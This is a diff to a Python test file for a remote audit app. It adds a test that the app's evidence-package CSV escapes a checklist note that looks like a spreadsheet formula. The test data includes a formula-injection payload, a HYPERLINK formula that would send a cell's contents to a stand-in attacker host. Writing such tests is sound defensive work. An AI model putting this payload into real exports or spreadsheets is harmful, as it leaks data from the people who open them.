@@ -24,7 +24,7 @@ from recordings.report import (
     clock_text,
 )
 from remote_check.audit.models import AuditEntry
-from remote_check.checklist.models import ItemResult, Standard
+from remote_check.checklist.models import ChecklistItem, ItemResult, Standard
 from remote_check.clock import SHANGHAI
 from tests.recordings.replay_world import ReplayWorld, replay_media, replay_world
 from web.keys import SETTINGS
@@ -88,6 +88,28 @@ async def test_the_evidence_package_holds_the_recording_and_the_report(replay_wo
     assert entry.details["sha256"] == hashlib.sha256(body).hexdigest()
     assert entry.details["files"] == len(expected)
     assert not list((w.web.test_server.app[SETTINGS].data_dir / "tmp").glob("*"))  # the spool is cleaned
+
+
+HYPERLINK_NOTE = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
+
+
+async def test_a_note_that_looks_like_a_formula_stays_text_in_the_packages_csv(
+    replay_world: ReplayWorld,
+) -> None:
+    w = replay_world
+    finance = w.codes[Standard.FINANCE][0]
+    async with w.web.db.factory() as session, session.begin():
+        item = await session.scalar(select(ChecklistItem).where(ChecklistItem.code == finance))
+        assert item is not None
+        item.notes = HYPERLINK_NOTE
+    browser = await w.web.signed_in("auditor")
+    response = await browser.get(w.url("/evidence.zip"))
+    assert response.status == 200
+    with zipfile.ZipFile(io.BytesIO(await response.read())) as archive:
+        text = archive.read(f"session-{w.session_id}/report/checklist.csv").decode("utf-8-sig")
+    rows = {row[1]: row for row in list(csv.reader(io.StringIO(text)))[1:]}
+    assert rows[finance][4] == "'" + HYPERLINK_NOTE  # shown as text, never run
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row)
 
 
 async def test_a_session_without_a_recording_has_no_package(replay_world: ReplayWorld) -> None:
